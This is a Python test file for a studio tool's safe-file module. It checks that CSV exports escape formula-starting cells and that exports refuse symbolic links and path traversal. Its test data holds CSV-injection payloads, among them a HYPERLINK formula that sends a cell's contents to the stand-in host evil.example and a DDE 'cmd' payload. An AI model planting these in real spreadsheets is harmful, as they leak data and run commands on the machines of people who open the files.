"""Files the studio writes for a user are safe to open and safe to write: CSV cells a spreadsheet would
run as formulas are escaped (OWASP), and no export follows a symbolic link planted where it writes."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from studio.core.safe_files import UnsafeTarget, open_text, write_text, write_tree
from studio.core.spreadsheet import escape_cell

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _run_with_formulas(cli, tmp_path: Path) -> int:  # type: ignore[no-untyped-def]
    data = tmp_path / "formulas.jsonl"
    data.write_text("".join(json.dumps({"id": f"=id{i}", "input": f, "completion": f, "expected": f}) + "\n"
                            for i, f in enumerate(FORMULAS)))
    assert cli("datasets", "import", str(data), "--name", "formulas").returncode == 0
    grader = tmp_path / "em.grader.yaml"
    grader.write_text("kind: builtin\nkey: em\nfunction: exact_match\nmetric: {key: em, kind: bool}\n")
    assert cli("graders", "create", str(grader)).returncode == 0
    result = cli("run", "em", "formulas", "--json")
    assert result.returncode == 0, result.stderr
    return int(json.loads(result.stdout)["id"])


def test_escape_cell_follows_owasp() -> None:
    for formula in FORMULAS:
        assert escape_cell(formula) == "'" + formula
    assert escape_cell("plain text") == "plain text"
    assert escape_cell(-0.5) == -0.5  # numbers stay numbers
    assert escape_cell("") == ""


def test_runs_and_labels_export_escape_formulas_unless_raw(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    run_id = _run_with_formulas(cli, tmp_path)
    out = tmp_path / "results.csv"
    assert cli("runs", "export", str(run_id), "-o", str(out)).returncode == 0
    rows = _read(out)
    assert [r["completion"] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r["sample_id"] for r in rows] == [f"'=id{i}" for i in range(len(FORMULAS))]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row

    raw = tmp_path / "raw.csv"
    assert cli("runs", "export", str(run_id), "--raw-csv", "-o", str(raw)).returncode == 0
    assert [r["completion"] for r in _read(raw)] == FORMULAS

    labels = tmp_path / "labels.jsonl"
    labels.write_text("".join(json.dumps({"sample_id": f"=id{i}", "label": "PASS", "note": f}) + "\n"
                              for i, f in enumerate(FORMULAS)))
    assert cli("labels", "import", str(labels), "--dataset", "formulas").returncode == 0
    exported = cli("labels", "export", "--dataset", "formulas", "-o", str(tmp_path / "labels.csv"))
    assert exported.returncode == 0, exported.stderr
    rows = _read(tmp_path / "labels.csv")
    assert [r["note"] for r in rows] == ["'" + f for f in FORMULAS]
    assert all(r["sample_id"].startswith("'=") for r in rows)
    assert cli("labels", "export", "--dataset", "formulas", "--format", "csv", "--raw-csv", "-o", str(raw)).returncode == 0
    assert [r["note"] for r in _read(raw)] == FORMULAS
    stdout = cli("labels", "export", "--dataset", "formulas", "--format", "csv").stdout  # standard output too
    assert [r["note"][:1] for r in csv.DictReader(io.StringIO(stdout))] == ["'"] * len(FORMULAS)


def test_an_export_never_writes_through_a_planted_link(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """``export --all --to promptfoo -o DIR`` with a link in DIR under an export's file name."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    run_id = _run_with_formulas(cli, tmp_path)
    out = tmp_path / "out"
    first = cli("export", "--all", "--to", "promptfoo", "-o", str(out))
    assert first.returncode == 3 and "not carried:" in first.stderr, first.stderr  # written; what is lost is named
    written = [p for p in out.rglob("*") if p.is_file()]
    assert written
    for path in written:  # plant a link under every name the export writes
        path.unlink()
        path.symlink_to(victim)
    again = cli("export", "--all", "--to", "promptfoo", "-o", str(out))
    assert again.returncode != 0
    assert "symbolic link" in again.stderr and "Traceback" not in again.stderr
    assert victim.read_text() == "precious"

    link = tmp_path / "report.csv"
    link.symlink_to(victim)
    for args in (("runs", "export", str(run_id), "-o", str(link)),
                 ("runs", "export", str(run_id), "--format", "jsonl", "-o", str(link)),
                 ("labels", "export", "--dataset", "formulas", "-o", str(link))):
        result = cli(*args)
        assert result.returncode == 1 and "symbolic link" in result.stderr, (args, result.stderr)
        assert "Traceback" not in result.stderr
    assert victim.read_text() == "precious"
    result = cli("graders", "write", "em", "-o", str(link))
    assert result.returncode == 1 and "symbolic link" in result.stderr and "Traceback" not in result.stderr
    assert victim.read_text() == "precious"


def test_safe_files_refuse_links_and_linked_folders(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (tmp_path / "root").mkdir()
    (tmp_path / "root" / "sub").symlink_to(victim, target_is_directory=True)
    with pytest.raises(UnsafeTarget, match="symbolic link"):
        write_tree(tmp_path / "root", {"sub/file.txt": "x"})
    assert list(victim.iterdir()) == []
    with pytest.raises(UnsafeTarget, match="leaves the output folder"):
        write_tree(tmp_path / "root", {"../escape.txt": "x"})

    target = tmp_path / "plain.txt"
    target.write_text("old")
    os.chmod(target, 0o644)
    write_text(target, "new")
    assert target.read_text() == "new"
    with pytest.raises(RuntimeError), open_text(target) as handle:  # a failed write leaves the old file
        handle.write("partial")
        raise RuntimeError("boom")
    assert target.read_text() == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plain.txt", "root", "victim"]
